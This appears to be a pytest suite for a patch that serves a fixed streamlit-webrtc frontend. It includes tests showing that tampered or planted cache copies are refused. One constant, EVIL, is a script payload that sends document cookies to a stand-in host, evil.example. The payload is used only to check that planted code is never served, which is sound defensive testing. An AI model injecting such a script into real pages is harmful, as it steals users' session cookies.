"""The streamlit-webrtc frontend served with the single-start fix (lib.patches)."""

import filecmp
import logging
import os
import shutil
import stat
import subprocess
from pathlib import Path

import pytest

from lib.patches import streamlit_webrtc as wf


def test_the_fix_applies_to_the_pinned_bundle_once_each_and_stays_valid_javascript(tmp_path):
    fixed = wf.patched_dir(root=tmp_path)
    source = wf.original_dir()
    bundle = wf.start_bundle(source)
    text = (fixed / "assets" / bundle.name).read_text()
    for old, new in wf.EDITS:
        assert old not in text and text.count(new) == 1
    # Everything else is the original, byte for byte.
    others = [p.relative_to(source) for p in source.rglob("*") if p.is_file() and p != bundle]
    assert others and all(filecmp.cmp(source / p, fixed / p, shallow=False) for p in others)
    # Built once: a second call reuses the copy.
    assert wf.patched_dir(root=tmp_path) == fixed
    assert len(list(tmp_path.iterdir())) == 1
    node = shutil.which("node")
    if node:
        module = tmp_path / "bundle.mjs"
        module.write_text(text)
        check = subprocess.run([node, "--check", str(module)], capture_output=True, text=True)
        assert check.returncode == 0, check.stderr


def test_a_bundle_the_fix_does_not_fit_is_refused():
    text = "".join(old for old, _ in wf.EDITS)
    assert wf.patch(text) != text
    with pytest.raises(wf.NotPatchable, match="0 times"):
        wf.patch(text.replace(wf.EDITS[1][0], ""))
    with pytest.raises(wf.NotPatchable, match="2 times"):
        wf.patch(text + wf.EDITS[2][0])


def unfixed(monkeypatch):
    """streamlit-webrtc's component as it declares itself (a page run in this process, e.g.
    by AppTest, may already have swapped it)."""
    from streamlit.components.v1.custom_component import CustomComponent
    from streamlit_webrtc import component

    name = "streamlit_webrtc.component.webrtc_streamer"
    own = CustomComponent(name=name, path=str(wf.original_dir()), module_name=component.__name__)
    monkeypatch.setattr(component, "_component_func", own)
    return component, own


def test_another_version_is_served_unfixed_with_a_warning(tmp_path, monkeypatch, caplog):
    component, before = unfixed(monkeypatch)
    other = tmp_path / "dist"
    shutil.copytree(wf.original_dir(), other)
    for js in (other / "assets").glob("index-*.js"):
        js.write_text(js.read_text().replace(wf.EDITS[0][0], "c.webRtcState===`STOPPED`?x("))
    monkeypatch.setattr(wf, "original_dir", lambda: other)
    with caplog.at_level(logging.WARNING, logger="lib.patches.streamlit_webrtc"):
        wf.serve_single_start_frontend()
    assert component._component_func is before
    assert "unfixed" in caplog.text


def test_the_component_keeps_its_name_and_is_swapped_once(monkeypatch, tmp_path: Path):
    component, original = unfixed(monkeypatch)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    wf.serve_single_start_frontend()
    swapped = component._component_func
    assert swapped is not original and swapped.name == original.name
    assert Path(swapped.path).parent == tmp_path / "avatarlab"
    wf.serve_single_start_frontend()
    assert component._component_func is swapped
    # A copy cleaned out of the temporary directory under a long-lived app is made again.
    shutil.rmtree(swapped.path)  # e.g. a cache cleaner
    wf.serve_single_start_frontend()
    assert component._component_func.name == original.name
    assert (Path(component._component_func.path) / "index.html").exists()


# Issue 24, finding 5: the copy is the component's code, served same-origin with the app. It
# lived in a predictable shared temp path; a folder planted there was served.
EVIL = "<script>fetch('http://evil.example/'+document.cookie)</script>"
OTHER_UID = 4242  # another local user (chown needs root: those cases are skipped otherwise)


def expected_digest() -> str:
    source = wf.original_dir()
    bundle = wf.start_bundle(source)
    return wf.tree_digest(wf.expected_tree(source, bundle, wf.patch(bundle.read_text())))


def plant(folder: Path, how: str, elsewhere: Path) -> None:
    """Spoil a built copy the way another user or a stale tool could."""
    if how == "content":
        (folder / "index.html").write_text(EVIL)
    elif how == "extra file":
        (folder / "assets" / "evil.js").write_text(EVIL)
    elif how == "world-writable":
        folder.chmod(0o777)
    elif how == "symlink":
        shutil.move(folder, elsewhere)  # the very same files, reached through a link
        folder.symlink_to(elsewhere)
    elif how == "another owner":
        if os.getuid() != 0:
            pytest.skip("changing a file's owner needs root")
        os.chown(folder / "index.html", OTHER_UID, OTHER_UID)


@pytest.mark.parametrize(
    "how", ["content", "extra file", "world-writable", "symlink", "another owner"]
)
def test_a_spoiled_or_planted_copy_is_never_served(tmp_path, how, caplog):
    root = tmp_path / "cache"
    root.mkdir(mode=0o700)
    built = wf.patched_dir(root=root)
    plant(built, how, tmp_path / "elsewhere")
    with caplog.at_level(logging.WARNING, logger="lib.patches.streamlit_webrtc"):
        served = wf.patched_dir(root=root)
    assert "not served" in caplog.text
    assert wf.untrusted(served, expected_digest()) is None  # ours, private, the exact files
    assert EVIL not in "".join(p.read_text() for p in served.rglob("*") if p.is_file())
    assert stat.S_IMODE(served.stat().st_mode) == 0o700 and not served.is_symlink()


def test_the_copy_lives_in_a_private_directory_of_this_user(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    served = wf.patched_dir()
    assert served.parent == tmp_path / "xdg" / "avatarlab"
    for path in (served.parent, served, *served.rglob("*")):
        info = path.lstat()
        assert info.st_uid == os.getuid() and not info.st_mode & 0o077, path


def test_a_shared_directory_planted_first_is_not_used(tmp_path, monkeypatch):
    # No usable cache directory; in the temporary directory another user made ours first.
    (tmp_path / "not-a-dir").write_text("")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "not-a-dir"))
    monkeypatch.setattr(wf.tempfile, "gettempdir", lambda: str(tmp_path))
    planted = tmp_path / f"avatarlab-{os.getuid()}"
    planted.mkdir(mode=0o777)
    planted.chmod(0o777)
    if os.getuid() == 0:
        os.chown(planted, OTHER_UID, OTHER_UID)
    served = wf.patched_dir()
    assert planted not in served.parents and served.parent.parent == tmp_path
    assert wf.untrusted(served, expected_digest()) is None
    assert stat.S_IMODE(served.parent.stat().st_mode) == 0o700


def test_the_app_serves_the_fixed_copy_not_a_planted_one(tmp_path, monkeypatch):
    component, _ = unfixed(monkeypatch)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    # The name the app would use, planted beforehand with other code.
    name = f"webrtc-{wf.metadata.version('streamlit-webrtc')}-{expected_digest()[:12]}"
    planted = tmp_path / "avatarlab" / name
    shutil.copytree(wf.original_dir(), planted)
    (planted / "index.html").write_text(EVIL)
    wf.serve_single_start_frontend()
    served = Path(component._component_func.path)
    assert (served / "index.html").read_text() != EVIL
    assert wf.untrusted(served, expected_digest()) is None
